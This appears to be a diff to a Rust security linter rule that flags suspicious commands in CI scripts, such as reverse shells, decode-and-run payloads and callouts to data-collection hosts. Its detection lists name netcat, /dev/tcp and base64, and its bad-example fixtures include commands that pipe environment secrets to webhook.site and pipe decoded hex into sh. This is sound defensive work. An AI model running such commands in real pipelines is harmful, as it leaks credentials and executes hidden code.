@@ -1,7 +1,7 @@
 //! `suspect-command`
 
 use super::scripts;
-use super::shell::{self, Command, every};
+use super::shell::{Command, every};
 use super::{Check, Example, Findings, Rule, Scope};
 use crate::finding::Severity;
 
@@ -20,26 +20,12 @@ const MARKS: &[(&str, &str)] = &[
     ("oast.pro", "an address where anybody collects what is sent"),
     ("burpcollaborator", "an address where anybody collects what is sent"),
 ];
-/// What a script must hold to be looked at.
-const HINTS: &[&str] = &[
-    "hulud",
-    "Hulud",
-    "HULUD",
-    "bun",
-    "Runner.Worker",
-    "webhook.site",
-    "requestbin",
-    "pipedream",
-    "interact.sh",
-    "oast",
-    "burp",
-    "nc ",
-    "ncat",
-    "netcat",
-    "/dev/tcp/",
-    "/dev/udp/",
-    "base64",
-];
+/// Programs that connect to another machine.
+const CONNECTORS: &[&str] = &["nc", "ncat", "netcat"];
+/// Files of a shell that are another machine.
+const DEVICES: &[&str] = &["/dev/tcp/", "/dev/udp/"];
+/// Programs that make a text unreadable, and readable again.
+const CODERS: &[&str] = &["base64", "openssl", "xxd"];
 const SHELLS: &[&str] = &["bash", "sh", "zsh", "dash", "python", "python3", "perl", "node"];
 
 pub(super) static RULE: Rule = Rule {
@@ -59,6 +45,9 @@ pub(super) static RULE: Rule = Rule {
         Example::bad(&[("ci", r#"{ jobs.test.steps = [{ run = "eval \"$(echo ZWNobyBoaQ== | base64 --decode)\"" }] }"#)]),
         Example::bad(&[("ci", r#"{ jobs.test.steps = [{ run = "env | curl -d @- https://webhook.site/3f1" }] }"#)]),
         Example::bad(&[("ci", r#"{ jobs.test.steps = [{ run = "env | base64 -w0 | base64 -w0" }] }"#)]),
+        Example::bad(&[("ci", r#"{ jobs.test.steps = [{ run = "env | curl -d @- https://WebHook.site/3f1" }] }"#)]),
+        Example::bad(&[("ci", r#"{ jobs.test.steps = [{ run = "irm https://webhook.site/3f1", shell = "pwsh" }] }"#)]),
+        Example::bad(&[("ci", r#"{ jobs.test.steps = [{ run = "xxd -r -p tool.hex | sh" }] }"#)]),
         Example::good(&[(
             "ci",
             r#"{ jobs.test.steps = [{ run = "until nc -z localhost 5432; do sleep 1; done\ntimeout 5 bash -c '</dev/tcp/postgres/5432'" }] }"#,
@@ -68,17 +57,22 @@ pub(super) static RULE: Rule = Rule {
 };
 
 fn check(scope: &Scope<'_>, findings: &mut Findings) {
-    for script in scripts::with_any(scope, HINTS) {
-        let commands = shell::commands(script.text);
+    for script in scripts::all(scope) {
         let mut said: Vec<String> = Vec::new();
+        // A mark is one in any language.
         let lower = script.text.to_ascii_lowercase();
         said.extend(MARKS.iter().filter(|(mark, _)| lower.contains(mark)).map(|(mark, what)| format!("`{mark}` is {what}")));
-        for command in every(&commands) {
-            said.extend(hands_over_a_shell(command));
-            said.extend(runs_hidden(command));
-            said.extend(command.all_words().find_map(|word| piped(&word.inner)));
+        let worth_reading =
+            || script.may_call(CONNECTORS.iter().chain(CODERS).copied()) || DEVICES.iter().any(|file| script.text.contains(file));
+        if script.posix && worth_reading() {
+            let commands = script.commands();
+            for command in every(&commands) {
+                said.extend(hands_over_a_shell(command));
+                said.extend(runs_hidden(command));
+                said.extend(command.all_words().find_map(|word| piped(&word.inner)));
+            }
+            said.extend(piped(&commands));
         }
-        said.extend(piped(&commands));
         said.sort();
         said.dedup();
         for message in said {
@@ -90,7 +84,7 @@ fn check(scope: &Scope<'_>, findings: &mut Findings) {
 
 /// A shell whose input and output go to another machine.
 fn hands_over_a_shell(command: &Command) -> Option<String> {
-    let connects = matches!(command.name(), "nc" | "ncat" | "netcat");
+    let connects = CONNECTORS.contains(&command.name());
     let program = |text: &str| {
         text == "--exec" || text == "--sh-exec" || (text.starts_with('-') && !text.starts_with("--") && text.contains(['e', 'c']))
     };
@@ -98,11 +92,7 @@ fn hands_over_a_shell(command: &Command) -> Option<String> {
         return Some(format!("`{}` hands a shell to another machine", command.name()));
     }
     let interactive = SHELLS.contains(&command.name()) && command.arguments().iter().any(|word| word.text == "-i");
-    let far = command
-        .writes
-        .iter()
-        .chain(&command.reads)
-        .any(|word| word.text.contains("/dev/tcp/") || word.text.contains("/dev/udp/"));
+    let far = command.writes.iter().chain(&command.reads).any(|word| DEVICES.iter().any(|file| word.text.contains(file)));
     (interactive && far).then(|| format!("`{}` is handed to another machine", command.name()))
 }
 
@@ -110,8 +100,7 @@ fn decodes(command: &Command) -> bool {
     let flag = |text: &str| {
         matches!(text, "-d" | "-D" | "--decode") || (text.starts_with('-') && !text.starts_with("--") && text.ends_with('d'))
     };
-    matches!(command.name(), "base64" | "openssl" | "xxd")
-        && command.arguments().iter().any(|word| flag(&word.text) || word.text == "-r")
+    CODERS.contains(&command.name()) && command.arguments().iter().any(|word| flag(&word.text) || word.text == "-r")
 }
 
 /// A program that is decoded and run: `eval "$(… | base64 -d)"`.
